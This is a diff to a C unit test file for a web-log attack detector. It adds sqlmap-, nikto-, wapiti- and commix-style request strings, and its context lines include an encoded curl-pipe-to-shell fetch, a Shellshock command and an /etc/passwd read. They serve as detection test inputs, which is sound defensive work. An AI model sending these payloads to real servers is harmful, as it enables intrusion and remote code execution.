@@ -74,6 +74,13 @@ static void test_sqli(void **state)
 	HIT(WEBLOG_CAT_SQLI, "/van-ban?id=7;update users set role=1");
 	HIT(WEBLOG_CAT_SQLI, "/tin-tuc?id=1/**/UNION/**/SELECT/**/1,2,3");
 	HIT(WEBLOG_CAT_SQLI, "/hoi-dap?id=1%20ORDER%20BY%203--");
+	/* issue 19: what sqlmap sends (boolean tests after any value, CASE
+	 * subqueries, Oracle's time-based test) */
+	HIT(WEBLOG_CAT_SQLI, "/tim-kiem?q=ho+so%20AND%207333%3D1297");
+	HIT(WEBLOG_CAT_SQLI, "/tim-kiem?q=abc OR NOT 4417=4417-- kQbt");
+	HIT(WEBLOG_CAT_SQLI, "/tra-cuu?ma=1 RLIKE (SELECT (CASE WHEN (5118=5118) THEN 1 ELSE 0x28 END))");
+	HIT(WEBLOG_CAT_SQLI, "/tra-cuu?ma=1 AND 1234=(CASE WHEN (1234=1234) THEN DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) ELSE 1234 END)");
+	HIT(WEBLOG_CAT_SQLI, "/tra-cuu?ma=x%27||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98),5)||%27");
 }
 
 static void test_xss(void **state)
@@ -86,6 +93,7 @@ static void test_xss(void **state)
 	HIT(WEBLOG_CAT_XSS, "/q?x=<svg/onload=alert(1)>");
 	HIT(WEBLOG_CAT_XSS, "/q?next=javascript:alert(document.domain)");
 	HIT(WEBLOG_CAT_XSS, "/q?x=\\x22><iframe src=//evil>");
+	HIT(WEBLOG_CAT_XSS, "/q?x=%3C!%5BCDATA%5B%3C%5D%5D%3Escript%3Ealert(1)%3C!%5BCDATA%5B%3C%5D%5D%3E/script%3E");
 }
 
 static void test_traversal(void **state)
@@ -99,6 +107,10 @@ static void test_traversal(void **state)
 	HIT(WEBLOG_CAT_TRAVERSAL, "/tai?f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc");
 	HIT(WEBLOG_CAT_TRAVERSAL, "/index.php?page=php://filter/convert.base64-encode/resource=index");
 	HIT(WEBLOG_CAT_TRAVERSAL, "/x/..;/manager/html");
+	/* issue 19: nikto's and wapiti's Windows probes */
+	HIT(WEBLOG_CAT_TRAVERSAL, "/%25%5c..%25%5c..%25%5c..winnt/desktop.ini");
+	HIT(WEBLOG_CAT_TRAVERSAL, "/tai?f=C:/inetpub/wwwroot/global.asa");
+	HIT(WEBLOG_CAT_TRAVERSAL, "/default.asp::$DATA");
 }
 
 static void test_cmdi(void **state)
@@ -110,6 +122,11 @@ static void test_cmdi(void **state)
 	HIT(WEBLOG_CAT_CMDI, "/tra-cuu?ma=%60whoami%60");
 	HIT(WEBLOG_CAT_CMDI, "/a?c=%253Bcurl%2520http%253A%252F%252Fx%252Fa%257Csh");
 	HIT(WEBLOG_CAT_CMDI, "/a?c=cat${IFS}/etc/passwd");
+	/* issue 19: wapiti's and commix's form values */
+	HIT(WEBLOG_CAT_CMDI, "/tim-kiem?q=%3Benv%3B");
+	HIT(WEBLOG_CAT_CMDI, "/tim-kiem?q=abc%7Cenv");
+	HIT(WEBLOG_CAT_CMDI, "/tim-kiem?q=%60dir%60");
+	HIT(WEBLOG_CAT_CMDI, "/ping?host=a%0Aid");
 	assert_true(hits_of("/", "() { :; }; /bin/bash -c 'id'") & (1u << WEBLOG_CAT_CMDI));
 }
 
@@ -164,6 +181,10 @@ static void test_benign(void **state)
 		"/tim-kiem?q=nguyen+van+a+%26+tran+thi+b", "/tim-kiem?q=o%27neil+visa", "/tim-kiem?q=ket+qua+%3C%3D+5+ngay",
 		"/tim-kiem?q=sleep+clinic+dong+nai", "/tim-kiem?q=echo+cardiogram", "/tim-kiem?q=cat+tuong+-+bien+hoa",
 		"/tim-kiem?q=phong+1%3B+update+ho+so", "/tim-kiem?q=select+1+in+3+options",
+		/* near misses of issue 19's signatures */
+		"/tim-kiem?q=to+khai+and+2+ban+sao", "/tim-kiem?q=case+when+nop+ho+so", "/tim-kiem?q=environment+env",
+		"/tim-kiem?q=directory+dir+so", "/tim-kiem?q=thong+tin+%7C+ho+tro", "/tai-lieu/desktop-ini-huong-dan",
+		"/tim-kiem?q=global+asa", "/tim-kiem?q=gia+tri+1%3D1+tai+lieu", "/tim-kiem?q=cdata+xml",
 	};
 	for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
 		unsigned h = hits_of(benign[i], NULL);
